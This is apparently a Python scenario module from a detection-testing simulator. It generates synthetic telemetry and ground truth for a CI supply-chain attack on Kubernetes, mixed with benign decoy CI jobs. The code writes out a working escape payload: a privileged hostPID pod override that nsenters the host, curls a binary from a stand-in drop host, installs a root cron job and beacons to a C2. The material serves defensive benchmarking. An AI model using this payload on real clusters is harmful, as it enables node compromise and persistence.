"""API abuse from CI: a merge request's poisoned Makefile, run by the CI runner's job, uses the
runner's service account to create a privileged pod pinned to another node; the pod enters the
host's namespaces, drops a binary on the host, schedules it in ``/etc/cron.d`` and connects to
its C2.

Look-alikes: the runner's jobs run ``git``, ``make`` and ``kubectl apply`` against the API all
day (Falco's "Contact K8S API Server From Container" on each), and one of those deploys rolls
out a new cart pod on the same other node a few minutes before the attack."""

from __future__ import annotations

from pathlib import Path

from .. import audit
from .. import falco as fc
from ..topology import Workload
from . import Scenario
from .kit import (
    MAY_WRITE,
    MS,
    NS,
    add_pod,
    command,
    connect_out,
    every,
    file_hook,
    finish,
    pod_ref,
    run,
    start_pod,
    world,
)
from .truth import Endpoint, Truth

NAME = "api-abuse"
DESCRIPTION = ("A merge request's Makefile, run by the CI runner, uses the runner's service "
               "account (kubectl run) to create a privileged hostPID pod on another node; the pod "
               "nsenters the host, drops a binary, schedules it in /etc/cron.d and connects to its C2.")
GITLAB = ("35.231.145.151", "gitlab.acme.example")
DROP = ("198.51.100.7", 8000)
C2 = ("198.51.100.9", 443)
API = ("172.18.0.2", 6443)


def _job(w, runner_main, t: int, script: str, *, critical: bool = False):
    """One CI job: bash running the job script, git clone, make …; returns (bash, make, end)."""
    rng = w.rng
    bash = run(w, runner_main, t, "/bin/bash", f"--login -c {script}", exit_=False,
               critical=critical)
    git = run(w, bash, t + 20 * MS, "/usr/bin/git",
              f"clone --depth 1 https://{GITLAB[1]}/acme/shop.git /builds/acme/shop",
              exit_=False, critical=critical)
    end = connect_out(w, git, t + 22 * MS, GITLAB[0], 443, GITLAB[1],
                      dur_ms=rng.randint(800, 2000), critical=critical)
    w.sim.exit_(git, end + 5 * MS, critical=critical)
    make = run(w, bash, end + 30 * MS, "/usr/bin/make", "-C /builds/acme/shop test",
               exit_=False, critical=critical)
    pytest = run(w, make, make.start_ns + 10 * MS, "/usr/local/bin/python3.12",
                 "-m pytest -q tests", dur_ms=rng.randint(3000, 9000), critical=critical)
    return bash, make, pytest.start_ns + 9 * NS


def _kubectl(w, parent, t: int, args: str, *, critical: bool = False, alert: bool = True, api=None):
    """kubectl in the runner's pod; ``api(proc, t)`` writes the audit event of its request,
    received just after its connection opened."""
    p = run(w, parent, t, "/usr/local/bin/kubectl", args, exit_=False, critical=critical)
    end = connect_out(w, p, t + 30 * MS, API[0], API[1], dur_ms=w.rng.randint(120, 400),
                      critical=critical)
    if api is not None:
        api(p, t + 30 * MS + w.audit_log().rng.randint(8, 20) * MS)
    if alert:
        fc.emit_alert(w.sim.sink, p, t + 31 * MS, "Contact K8S API Server From Container",
                      evt_type="connect", extra={"fd.name": f"{p.pod.ip}:"
                                                 f"{w.rng.randint(32768, 60999)}->10.96.0.1:443"},
                      critical=critical)
    w.sim.exit_(p, end + 2 * MS, critical=critical)
    return p, end


def build(out_dir: Path, seed: int) -> Truth:
    """Write the capture; see the module docstring."""
    w = world(seed, minutes=25)
    rng = w.rng
    sim = w.sim
    wl = Workload("ci", "gitlab-runner", "Deployment", {"app": "gitlab-runner"},
                  "registry.gitlab.com/gitlab-org/gitlab-runner:v16.11.1",
                  "/usr/bin/gitlab-runner", "run --user=gitlab-runner --working-directory=/builds",
                  "gitlab-runner", cwd="/builds", uid=999, serviceaccount="gitlab-runner")
    runner = add_pod(w, wl, w.node(1))
    main = sim.pod_proc(runner)
    other = w.node(2)

    # routine pipelines: test, then deploy with kubectl apply (a patch of the cart Deployment)
    log = w.audit_log()
    ident = audit.pod_identity(runner)

    def patch(p, at: int) -> None:
        log.call(at, "patch", ident, "deployments", namespace="shop", name="cart", group="apps")

    for t in every(w, 180):
        bash, make, end = _job(w, main, t, "/builds/acme/shop.tmp/script_step")
        sim.exit_(make, end, critical=False)
        _kubectl(w, bash, end + 100 * MS, "apply -n shop -f deploy/k8s/", api=patch)
        sim.exit_(bash, end + 900 * MS)
    # one of the deploys rolls out a new cart pod on the other node
    t = w.at(7)
    bash, make, end = _job(w, main, t, "/builds/acme/shop.tmp/script_step")
    sim.exit_(make, end)
    _, applied = _kubectl(w, bash, end + 100 * MS, "apply -n shop -f deploy/k8s/", api=patch)
    sim.exit_(bash, applied + 900 * MS)
    cart = w.sim.cluster.pods_of("cart")[0]
    newcart = add_pod(w, cart.workload, other, started_ns=applied + 4 * NS)
    # ... which the ReplicaSet controller creates (its own service account, from the control plane)
    log.call(applied + 2 * NS, "create", audit.controller_identity(w.node(0), "replicaset-controller"), "pods",
             namespace=cart.namespace, code=201, response_object=audit.pod_object(newcart, applied + 2 * NS))
    start_pod(w, newcart)

    # the attack: a merge request's Makefile target
    t0 = w.at(14 + rng.random())
    bash, make, _ = _job(w, main, t0, "/builds/acme/shop.tmp/script_step", critical=True)
    sh = run(w, make, make.start_ns + 15 * NS, "/bin/sh",
             "-c kubectl run node-debug-7xk2q --restart=Never --image=alpine:3.20 "
             "--overrides=\"$(cat hack/overrides.json)\"", exit_=False, critical=True)
    cat = run(w, sh, sh.start_ns + 2 * MS, "/bin/cat", "hack/overrides.json", 1, critical=True)
    overrides = ('{"spec":{"nodeName":"' + other.name + '","hostPID":true,"containers":[{"name":'
                 '"node-debug-7xk2q","image":"alpine:3.20","command":["nsenter","-t","1","-m",'
                 '"-u","-i","-p","--","sh","-c","curl -s http://198.51.100.7:8000/kp -o '
                 '/usr/local/bin/kube-proxy-health; chmod +x /usr/local/bin/kube-proxy-health; '
                 'echo \\"* * * * * root /usr/local/bin/kube-proxy-health\\" > '
                 '/etc/cron.d/kube-proxy-health; /usr/local/bin/kube-proxy-health"],'
                 '"securityContext":{"privileged":true}}]}}')
    sent: list[int] = []
    kubectl, created = _kubectl(w, sh, sh.start_ns + 6 * MS,
                                "run node-debug-7xk2q --restart=Never --image=alpine:3.20 "
                                f"--overrides={overrides}", critical=True,
                                api=lambda p, at: sent.append(at))
    sim.exit_(sh, created + 3 * MS, critical=True)
    sim.exit_(make, created + 5 * NS, critical=True)
    sim.exit_(bash, created + 6 * NS, critical=True)

    pwl = Workload("ci", "node-debug-7xk2q", "Pod", {"run": "node-debug-7xk2q"}, "alpine:3.20",
                   "/usr/bin/nsenter", "-t 1 -m -u -i -p -- sh -c curl -s "
                   "http://198.51.100.7:8000/kp -o /usr/local/bin/kube-proxy-health; chmod +x "
                   "/usr/local/bin/kube-proxy-health; echo \"* * * * * root "
                   "/usr/local/bin/kube-proxy-health\" > /etc/cron.d/kube-proxy-health; "
                   "/usr/local/bin/kube-proxy-health", "node-debug-7xk2q",
                   serviceaccount="gitlab-runner")
    priv = add_pod(w, pwl, other, started_ns=created + rng.randint(2500, 4000) * MS,
                   name="node-debug-7xk2q")
    # the create, as the audit log keeps it (RequestResponse: the pod it returned)
    log.call(sent[0], "create", ident, "pods", namespace="ci", code=201,
             response_object=audit.pod_object(priv, sent[0], privileged=True, host_pid=True))
    nsenter = start_pod(w, priv, critical=True)
    fc.emit_alert(sim.sink, nsenter, nsenter.start_ns + 300_000, "Launch Privileged Container",
                  critical=True)
    # what nsenter starts runs in the host's namespaces (still in the pod's cgroup)
    hsh = run(w, nsenter, nsenter.start_ns + 4 * MS, "/bin/sh", "-c " + pwl.arguments.split(
        "sh -c ", 1)[1], exit_=False, critical=True, host_ns=True, cwd="/")
    curl = run(w, hsh, hsh.start_ns + 3 * MS, "/usr/bin/curl",
               f"-s http://{DROP[0]}:{DROP[1]}/kp -o /usr/local/bin/kube-proxy-health",
               exit_=False, critical=True, host_ns=True)
    end = connect_out(w, curl, curl.start_ns + MS, DROP[0], DROP[1], dur_ms=1200, critical=True)
    sim.exit_(curl, end + MS, critical=True)
    run(w, hsh, end + 3 * MS, "/bin/chmod", "+x /usr/local/bin/kube-proxy-health", 1,
        critical=True, host_ns=True)
    file_hook(w, hsh, end + 6 * MS, "/etc/cron.d/kube-proxy-health", MAY_WRITE, critical=True)
    fc.emit_alert(sim.sink, hsh, end + 6 * MS + 20_000, "Schedule Cron Jobs", evt_type="openat",
                  extra={"fd.name": "/etc/cron.d/kube-proxy-health"}, critical=True)
    implant = run(w, hsh, end + 9 * MS, "/usr/local/bin/kube-proxy-health", "", exit_=False,
                  critical=True, host_ns=True)
    fc.emit_alert(sim.sink, implant, implant.start_ns + 200_000,
                  "Drop and execute new binary in container", critical=True)
    for tb in every(w, 45, implant.start_ns + 300 * MS, w.end - 20 * NS, jitter=0.1):
        connect_out(w, implant, tb, C2[0], C2[1], dur_ms=500, critical=True)

    return finish(w, out_dir, Truth(
        scenario=NAME, kind="attack", description=DESCRIPTION, seed=seed,
        entry=pod_ref(runner), key_command=command(kubectl), reached=[pod_ref(priv)],
        endpoints=[Endpoint(DROP[0], DROP[1], "download"), Endpoint(C2[0], C2[1], "c2")],
        techniques=["T1195.002", "T1610", "T1611", "T1105", "T1053.003", "T1071.001"],
        expected_incidents=1,
        attacker_exec_ids=[p.exec_id for p in (sh, cat, kubectl, nsenter, hsh, curl, implant)],
        decoys=["CI jobs run git, make, pytest and kubectl apply every 3 minutes",
                "Falco's Contact K8S API Server on every deploy",
                "a deploy rolls out a new cart pod on the same node 7 minutes before"]))


SCENARIO = Scenario(NAME, "attack", DESCRIPTION, build, seed=12)
